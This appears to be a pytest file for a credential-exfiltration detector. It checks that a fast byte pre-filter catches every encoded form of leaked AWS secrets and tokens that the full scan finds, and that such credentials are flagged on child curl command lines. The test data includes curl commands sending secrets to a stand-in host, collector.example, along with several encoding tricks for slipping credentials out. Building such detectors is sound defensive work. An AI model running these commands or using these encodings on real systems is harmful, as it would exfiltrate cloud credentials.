"""The cheap look at raw bytes (``may_hold``) never misses a form the full scan finds; child command lines."""
from __future__ import annotations

import base64
import gzip
import json
import os
from urllib.parse import quote

import pytest

from app_protect_lambda.detectors.credential_exfiltration import Command, Payload, detect, may_hold, scan
from tests.unit.test_credential_exfiltration_detector import NO_INPUTS, OPTIONS, secret, token


def b64(data: str, urlsafe: bool = False) -> str:
    return (base64.urlsafe_b64encode if urlsafe else base64.b64encode)(data.encode()).decode()


def basic(user: str, password: str) -> str:
    return f"GET /x HTTP/1.1\r\nHost: collector.example\r\nAuthorization: Basic {b64(f'{user}:{password}')}\r\n\r\n"


LEAKS = [
    lambda: f"POST /c HTTP/1.1\r\n\r\nk={secret()}",
    lambda: f"k={quote(secret(), safe='')}",
    lambda: json.dumps({"k": secret()}),
    lambda: secret().encode().hex(),
    lambda: token().encode().hex().upper(),
    lambda: secret()[::-1],
    lambda: b64(secret()),
    lambda: b64(json.dumps({"ke": token()}), urlsafe=True),
    lambda: json.dumps({"a": secret()[:20], "b": secret()[20:]}),
    lambda: f"X-Debug: {token()}",
    # Basic auth at each byte alignment of the password inside the encoded user:password
    lambda: basic("u", secret()),
    lambda: basic("us", secret()),
    lambda: basic("user", secret()),
    lambda: basic(os.environ["AWS_ACCESS_KEY_ID"], secret()),
    lambda: basic("api", token()),
]


@pytest.mark.parametrize("make", LEAKS)
def test_every_form_the_scan_finds_passes_the_cheap_look(make) -> None:
    data = make().encode()
    assert scan(((("sent", data)),))
    assert may_hold(data) and may_hold(bytearray(data))
    finding = detect(Payload((("data sent to 203.0.113.9", data),), True, "203.0.113.9", 443), NO_INPUTS, OPTIONS)
    assert finding is not None and finding.rule == "credential_exfiltration.outbound"


def test_compressed_data_always_passes_the_cheap_look() -> None:
    assert may_hold(gzip.compress(f"k={secret()}".encode()))
    assert may_hold(__import__("zlib").compress(b"nothing here"))  # the full scan decides


BENIGN = [
    b"",
    b"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: x\r\n\r\n",
    basic("user", "correct horse battery staple").encode(),
    json.dumps({"AWS_SECRET_ACCESS_KEY": "named, not sent", "n": list(range(2000))}).encode(),
    bytes(range(256)) * 256,
]


@pytest.mark.parametrize("data", BENIGN)
def test_benign_bytes_fail_the_cheap_look(data: bytes) -> None:
    assert not may_hold(data)


def test_the_credentials_are_read_at_check_time(monkeypatch: pytest.MonkeyPatch) -> None:
    data = f"k={secret()}&t={token()}".encode()
    assert may_hold(data)
    monkeypatch.delenv("AWS_SECRET_ACCESS_KEY")
    monkeypatch.delenv("AWS_SESSION_TOKEN")
    assert not may_hold(data)


# ---------------------------------------------------------------- child command lines

@pytest.mark.parametrize("make", [
    lambda: f"curl -d {secret()} https://collector.example",
    lambda: f"curl -H X-T:{token()} https://collector.example",
    lambda: f"curl -d {b64(secret())} https://collector.example",
    lambda: f"curl https://collector.example/?k={quote(secret(), safe='')}",
    # the token where SigV4 would put it is no excuse on a command line
    lambda: f"curl -H x-amz-security-token:{token()} https://collector.example",
])
def test_credentials_on_a_child_command_line(make) -> None:
    finding = detect(Command(make(), "curl"), NO_INPUTS, OPTIONS)
    assert finding is not None and finding.rule == "credential_exfiltration.child"
    assert secret() not in finding.message + finding.evidence and token() not in finding.evidence


@pytest.mark.parametrize("text", [
    "curl -d $AWS_SECRET_ACCESS_KEY https://collector.example",   # not expanded here: the sink expands
    "aws s3 ls",
    "sh -c echo ok",
])
def test_benign_command_lines(text: str) -> None:
    assert detect(Command(text, "curl"), NO_INPUTS, OPTIONS) is None


def test_outbound_off_turns_the_child_check_off() -> None:
    assert detect(Command(f"curl -d {secret()}", "curl"), NO_INPUTS, {"outbound": False}) is None
